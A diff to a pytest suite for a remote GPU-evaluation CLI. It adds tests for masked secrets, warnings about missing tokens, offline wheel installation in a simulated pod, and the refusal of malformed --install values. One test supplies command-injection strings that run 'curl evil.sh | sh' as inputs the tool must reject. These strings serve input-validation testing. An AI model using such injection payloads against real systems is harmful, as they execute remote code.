@@ -9,13 +9,13 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import signal
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
-from conftest import SHARED_DIR
 from fakes.github import FakeGitHub
 from fakes.hub import FakeHub
 from fakes.runpod import FakePod, FakeRunPod
@@ -94,11 +94,33 @@ def test_dry_run_prints_the_pod_with_secrets_masked_and_creates_nothing(tmp_path
 
     assert result.returncode == 0, result.stderr
     out = " ".join(result.stdout.split())
-    for shown in (GPU, "COMMUNITY", "runpod/pytorch", 'pip install -q "moelab[eval]==0.1.0"', "python -m moelab.eval.pod",
-                  "runpodctl remove pod $RUNPOD_POD_ID", MODEL_ID, "env GITHUB_TOKEN", "env HF_TOKEN", "***"):
+    for shown in (GPU, "COMMUNITY", "runpod/pytorch", 'python -c "$MOELAB_BOOTSTRAP"', "<moelab/eval/bootstrap.py,",
+                  "env MOELAB_WHEEL_FILE", "moelab-0.1.0-py3-none-any.whl.b64", "runpodctl remove pod $RUNPOD_POD_ID",
+                  MODEL_ID, "env GITHUB_TOKEN", "env HF_TOKEN", "***"):
         assert shown in out
     assert "RUNPOD_API_KEY" not in out  # the user's RunPod key never goes to the pod
+    assert "warning" not in result.stderr
     assert_no_secrets(result.stdout, result.stderr, files_under=tmp_path)
+    assert runpod_api.calls == [] and github_api.requests == []
+
+
+def test_dry_run_warns_about_missing_secrets_and_shows_a_checked_install(tmp_path, cli_env, runpod_api, github_api):
+    env = {k: v for k, v in cli_env.items() if k not in ("RUNPOD_API_KEY", "GITHUB_TOKEN")}
+    result = run_cli(remote_eval_args("--dry-run", "--install", "moelab[eval]==0.1.0"), env, tmp_path)
+
+    assert result.returncode == 0, result.stderr
+    err = " ".join(result.stderr.split())
+    assert "warning: RUNPOD_API_KEY is not set" in err and "warning: GITHUB_TOKEN is not set" in err
+    assert "env MOELAB_INSTALL" in result.stdout and "moelab[eval]==0.1.0" in result.stdout
+    assert "MOELAB_WHEEL_FILE" not in result.stdout
+
+
+@pytest.mark.parametrize("install", ['moelab"; curl evil.sh | sh; "', "$(curl evil.sh)", "moelab[eval]==", "a b"])
+def test_an_install_that_is_not_one_pip_argument_is_refused(install, tmp_path, cli_env, runpod_api, github_api):
+    result = run_cli(remote_eval_args("--install", install), cli_env, tmp_path)
+
+    assert result.returncode == 2
+    assert f"--install '{install}' is not" in result.stderr
     assert runpod_api.calls == [] and github_api.requests == []
 
 
@@ -259,43 +281,61 @@ def hub(cli_env, tmp_path):
 
 
 class PodContainer:
-    """Plays RunPod's side of a pod: its container runs the pod entry, and dies when the pod is terminated."""
+    """Plays RunPod's side of a pod: its container runs the pod's start command, and dies when the pod is terminated.
+
+    The container's image is a fresh virtualenv whose Python sees the host's packages (torch, lm-eval, ...) but not
+    moelab: the start command must install moelab itself, from what the local side sent. pip runs offline
+    (--no-index --no-deps, through pip's own environment variables); PIP_FORCE_REINSTALL because the host's
+    editable moelab counts as installed for a venv that sees the host's packages.
+    """
 
     def __init__(self, runpod_api: FakeRunPod, hub: FakeHub, folder: Path):
         self.runpod_api, self.hub, self.folder = runpod_api, hub, folder
         self.log = folder / "pod.log"
+        self.venv = folder / "venv"
+        subprocess.run([sys.executable, "-m", "venv", "--system-site-packages", "--without-pip", str(self.venv)],
+                       check=True)
         self.processes: dict[str, subprocess.Popen] = {}
         runpod_api.on_deploy, runpod_api.on_terminate = self.start, self.stop
 
     def start(self, pod: FakePod) -> None:
-        host = {k: v for k, v in os.environ.items() if k not in ("RUNPOD_API_KEY", "GITHUB_TOKEN", "HF_TOKEN")}
+        host = {k: v for k, v in os.environ.items()
+                if k not in ("RUNPOD_API_KEY", "GITHUB_TOKEN", "HF_TOKEN", "PYTHONPATH", "MOELAB_CACHE")}
         env = {**host, **pod.env,  # what the SDK sent, as the container sees it
+               "PATH": f"{self.venv / 'bin'}{os.pathsep}{host['PATH']}",
+               "PIP_NO_INDEX": "1", "PIP_NO_DEPS": "1", "PIP_FORCE_REINSTALL": "1",
                "RUNPOD_POD_ID": pod.id, "RUNPOD_API_KEY": POD_KEY, "RUNPOD_API_BASE_URL": self.runpod_api.url,
                # the pod's network reaches the fake Hub; its image holds the task data
                "HF_ENDPOINT": self.hub.endpoint, "HF_HUB_DISABLE_XET": "1", "HF_HOME": str(self.folder / "pod-hf"),
-               "MOELAB_DATA_DIR": str(SHARED_DIR / "data")}
+               "MOELAB_DATA_DIR": "pkg:moelab/data"}
+        start = pod.spec["dockerArgs"]
+        assert start.startswith("bash -c ") and "sleep infinity" in start
         with self.log.open("a") as log:
-            self.processes[pod.id] = subprocess.Popen([sys.executable, "-m", "moelab.eval.pod"], env=env,
-                                                      stdout=log, stderr=subprocess.STDOUT, cwd=self.folder)
+            self.processes[pod.id] = subprocess.Popen(shlex.split(start), env=env, stdout=log,
+                                                      stderr=subprocess.STDOUT, cwd=self.folder,
+                                                      start_new_session=True)  # the shell, its python and sleep
 
     def stop(self, pod: FakePod) -> None:
         process = self.processes.get(pod.id)
         if process is not None and process.poll() is None:
-            process.kill()
+            os.killpg(process.pid, signal.SIGKILL)
 
     def wait(self) -> None:
         for process in self.processes.values():
             process.wait(timeout=60)
 
+    def installed_moelab(self) -> Path:
+        return next(self.venv.glob("lib/python*/site-packages/moelab/__init__.py"))
+
 
 @pytest.fixture
 def pod_container(runpod_api, hub, tmp_path):
-    if not (SHARED_DIR / "data" / "bigbench").is_dir():
-        pytest.skip("the shared BIG-bench data is missing")
     folder = tmp_path / "pod"
     folder.mkdir()
     container = PodContainer(runpod_api, hub, folder)
     yield container
+    for pod in runpod_api.pods.values():
+        container.stop(pod)
     container.wait()
 
 
@@ -330,9 +370,15 @@ def test_round_trip_push_evaluate_on_the_pod_and_read_the_report_back(tmp_path, 
     assert USER_KEY not in json.dumps(pod.spec)
     assert pod.spec["gpuTypeId"] == GPU and pod.spec["cloudType"] == "SECURE" and pod.spec["containerDiskInGb"] == 100
 
+    # The pod installed the wheel the local side built from this source into its own environment, offline.
+    assert "installing moelab from /" in pod_log and "moelab-0.1.0-py3-none-any.whl[eval]" in pod_log
+    assert f"moelab {pod_container.installed_moelab().parent}" in pod_log
+    assert (pod_container.installed_moelab().parent / "eval" / "pod.py").read_text() == \
+        (Path(__file__).parents[1] / "moelab" / "eval" / "pod.py").read_text()
+
     err = " ".join(result.stderr.split())
     assert "pod fakepod0001: created" in err and "report received" in err and "$0.69/h" in err
-    assert "bigbench_navigate" in result.stdout
+    assert " navigate " in result.stdout  # the report view lists tasks by group, without the group prefix
     assert_no_secrets(result.stdout, result.stderr, pod_log, json.dumps(github_api.gists), files_under=tmp_path)
 
 
